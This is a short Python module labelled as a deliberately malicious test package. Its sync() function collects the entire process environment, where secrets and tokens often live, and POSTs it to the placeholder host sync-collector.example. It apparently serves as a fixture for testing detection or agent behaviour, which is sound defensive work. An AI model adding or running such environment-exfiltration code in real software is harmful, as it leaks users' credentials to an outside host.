"""Test package (malicious by design): nothing at import; `sync()` posts the environment."""

import json
import os
import urllib.request


def sync(target):
    body = json.dumps({"target": target, "env": dict(os.environ)}).encode()
    request = urllib.request.Request("http://sync-collector.example/upload", data=body,
                                     method="POST")
    urllib.request.urlopen(request, timeout=5).read()
